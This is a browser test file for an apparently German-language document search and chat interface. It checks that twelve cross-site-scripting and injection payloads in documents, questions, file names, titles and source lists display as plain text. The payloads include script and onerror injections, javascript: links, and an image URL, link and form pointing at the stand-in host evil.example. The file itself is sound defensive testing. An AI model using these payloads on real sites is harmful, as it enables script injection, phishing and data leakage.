"""Twelve payloads, in a document and as questions: nothing runs, nothing leaves the machine."""

from __future__ import annotations

from pathlib import Path

import pytest

from corpus.embedding import HASHING_MODEL
from corpus.settings import Settings
from ingest.build import build_index
from tests.browser.conftest import NewPage, Serve

PAYLOADS = (
    '<img src=x onerror="window.xss=1;alert(1)">',
    "<script>window.xss=2;alert(2)</script>",
    "[Klick](javascript:window.xss=3)",
    "![Bild](http://evil.example/?q=GEHEIM)",
    '<iframe srcdoc="<script>parent.window.xss=5</script>"></iframe>',
    '<svg onload="window.xss=6"></svg>',
    '<a href="http://evil.example/phish">Anmeldung</a>',
    '<details open ontoggle="window.xss=8"><summary>x</summary></details>',
    r"$$\href{javascript:window.xss=9}{Formel}$$",
    "```html <script>window.xss=10</script> ```",
    '<form action="http://evil.example/post"><button>Senden</button></form>',
    "<style>body{display:none}</style>",
)


@pytest.fixture(scope="module")
def poisoned(serve: Serve, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A text file is quoted as it is: each payload stands in a sentence of its own."""
    directory = tmp_path_factory.mktemp("poisoned")
    sentences = [
        f"Nutzlast Nummer {n} im Dokument Giftschrank lautet {p} und endet hier." for n, p in enumerate(PAYLOADS, 1)
    ]
    Path(directory, "giftschrank.txt").write_text("Der Giftschrank\n\n" + "\n\n".join(sentences), encoding="utf-8")
    Path(directory, "giftschrank-2.md").write_text(
        "# Giftschrank zwei\n\n" + "\n\n".join(f"Abschrift {s}" for s in sentences), encoding="utf-8"
    )
    # In a file's name, title, heading and list of sources, which the page shows, too.
    Path(directory, "Anhang <img src=x onerror=window.xss=21>.md").write_text(
        "---\ntitle: 'Anhang <img src=x onerror=window.xss=22>'\nsources:\n  - javascript:window.xss=23\n"
        "  - 'https://example.org/\"onmouseover=\"window.xss=24'\n---\n\n"
        "# Anhang\n\n## Abschnitt `<script>window.xss=25</script>`\n\nDer Anhang nennt die Gegenmittel.\n",
        encoding="utf-8",
    )
    settings = Settings(corpus_dir=directory, index_dir=tmp_path_factory.mktemp("index"), embedding_model=HASHING_MODEL)
    build_index(settings)
    return serve(settings, None)


def test_document_with_payloads_is_shown_as_text(new_page: NewPage, poisoned: str) -> None:
    watched = new_page(poisoned)
    page = watched.open()
    shown = ""
    for number, payload in enumerate(PAYLOADS, 1):
        watched.ask(f"Wie lautet die Nutzlast Nummer {number} im Dokument Giftschrank? {payload}")
        answer = page.locator("#chat .lw-answer").nth(number - 1)
        links = answer.locator("a.lw-cite")
        for i in range(min(3, links.count())):
            links.nth(i).click()
            page.locator("#lw-mark").wait_for()
        shown += answer.inner_text()
    for payload in ("onerror=", "<script>", "javascript:", "evil.example", "<iframe", "<svg", "<form", "<style>"):
        assert payload in shown, f"{payload} should be visible as text"
    assert page.evaluate("window.xss") is None
    assert page.locator("#chat img, #chat iframe, #chat form, #chat svg[onload], #source-panel img").count() == 0
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    foreign_links = page.locator("#chat a[href^='http://evil'], #source-panel a[href^='http://evil']")
    assert foreign_links.count() == 0
    watched.check_quiet()


def test_payloads_in_name_title_heading_and_sources_are_shown_as_text(new_page: NewPage, poisoned: str) -> None:
    watched = new_page(poisoned)
    page = watched.open()
    watched.ask("Welche Gegenmittel nennt der Anhang?")
    link = page.locator("#chat a.lw-cite").first
    link.click()
    page.locator("#lw-mark").wait_for()
    assert "<img src=x" in page.locator("#lw-source-title").inner_text()
    assert page.locator("#source-panel a[href^='javascript']").count() == 0
    page.goto(poisoned + str(link.get_attribute("href")))
    assert "<img src=x" in page.locator("#lw-source-title").inner_text()
    assert page.locator("img, script, [onmouseover]").count() == 0
    assert page.evaluate("window.xss") is None
    watched.check_quiet()
